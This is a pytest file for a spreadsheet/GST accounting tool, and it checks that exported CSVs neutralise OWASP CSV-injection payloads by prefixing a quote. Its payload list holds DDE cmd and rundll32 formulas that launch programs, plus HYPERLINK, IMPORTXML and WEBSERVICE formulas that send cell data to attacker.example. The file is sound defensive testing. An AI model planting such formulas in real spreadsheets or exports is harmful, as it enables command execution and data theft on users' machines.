"""Every CSV we write neutralises formula-like text cells (OWASP CSV injection), numbers stay numbers.

Source: OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): cells must not
begin with ``=``, ``+``, ``-``, ``@``, tab or carriage return; prepend a single quote. The payloads below
are the page's examples and the usual DDE / HYPERLINK / IMPORTXML ones.
"""

from __future__ import annotations

import csv
import io

import pytest

from ims_excel.book import new as book_new
from ims_excel.cli import main
from ims_excel.cli.demo import DEMO_CONTEXT, sample_path
from ims_excel.csvout import TRIGGERS, neutralise, to_text, write_csv

OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&A2,\"Error: please click for details\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\n-3+3+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", A1), \"//a\")",
    "=WEBSERVICE(\"http://attacker.example/\"&A1)",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=1+1",
    "+1+1",
    "-1+1",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r",
    " =1+1",
    "  @SUM(A1:A9)",
    "=\u00a0cmd",
    "-1e3",
    "+91 98765 43210",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_payload_is_written_as_text(payload):
    safe = neutralise(payload)
    assert safe == "'" + payload
    cell = next(csv.reader(io.StringIO(to_text([[payload]]), newline="")))[0]
    assert cell == "'" + payload  # RFC 4180 quoting keeps tabs, CR and LF inside the one cell
    assert not cell.startswith(TRIGGERS)


@pytest.mark.parametrize("value, written", [
    (-450.0, "-450.0"), (-450, "-450"), ("-450.00", "-450.00"), ("+450", "+450"), (0.5, "0.5"),
    ("Acme Traders", "Acme Traders"), ("27AAACR5055K1Z7", "27AAACR5055K1Z7"), ("", ""), (None, ""),
    (float("nan"), ""), ("INV-1", "INV-1"), ("'=already", "'=already"),
])
def test_numbers_and_plain_text_are_unchanged(value, written):
    assert next(csv.reader(io.StringIO(to_text([[value]]))))[0] == written


def test_write_csv_is_utf8_with_bom_and_replaces_atomically(tmp_path):
    out = tmp_path / "x.csv"
    out.write_text("old")
    write_csv(out, [["Client", "Amount"], ["=cmd|' /C calc'!A0", -450.0], ["₹ Sharma & Sons", 12]])
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["Client", "Amount"], ["'=cmd|' /C calc'!A0", "-450.0"], ["₹ Sharma & Sons", "12"]]
    assert [p.name for p in tmp_path.iterdir()] == ["x.csv"]  # no temp file left


def test_batch_csv_neutralises_a_hostile_client_name(tmp_path, capsys):
    folder = tmp_path / "clients"
    folder.mkdir()
    name = "=cmd|' /C calc'!A0"
    book = folder / "evil.xlsm"
    book_new.new_workbook(book, gstin=DEMO_CONTEXT["gstin"], name=name, period=DEMO_CONTEXT["period"])
    out = tmp_path / "summary.csv"
    assert main(["batch", str(folder), "--csv", str(out), "--as-of", DEMO_CONTEXT["as_of"]]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[1][:2] == ["evil.xlsm", "'" + name]
    assert all(not c.startswith(TRIGGERS) or c.lstrip("+-").replace(".", "", 1).isdigit()
               for row in rows for c in row)


def test_followup_csvs_neutralise_hostile_cells_from_the_books(tmp_path, capsys):
    """The other CSVs we write: ``reconcile --followup`` (one per supplier). Document numbers and a supplier
    name taken from a purchase register carrying OWASP payloads come out as text (OWASP CSV Injection)."""
    book = tmp_path / "client.xlsm"
    book_new.new_workbook(book, gstin=DEMO_CONTEXT["gstin"], name="Client", period=DEMO_CONTEXT["period"])
    book_new.set_config_as_of(book, DEMO_CONTEXT["as_of"])
    assert main(["import", str(book), str(sample_path("sample_inward.csv"))]) == 0
    lines = sample_path("sample_purchases.csv").read_text(encoding="utf-8").splitlines()
    lines += ["Invoice,29AAACS2222T1ZX,Kaveri Components,=1+1,05-10-2026,1000,180,0,0,0,27,N,PUR-999",
              "Invoice,33AAACT3333Q1Z5,@SUM(1+9),-2+3,06-10-2026,1000,180,0,0,0,27,N,PUR-998"]
    books = tmp_path / "=books.csv"  # its name goes into the Note column ("=books.csv row N")
    books.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert main(["reconcile", str(book), str(books), "--followup", str(tmp_path / "fu"), "--no-backup"]) == 0
    cells = [c for f in (tmp_path / "fu").glob("*.csv")
             for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig"), newline="")) for c in row]
    assert {"'=1+1", "'-2+3", "'@SUM(1+9)"} <= set(cells)
    assert any(c.startswith("'=books.csv row ") for c in cells)
    assert all(not c.startswith(TRIGGERS) or c.lstrip("+-").replace(".", "", 1).isdigit() for c in cells)
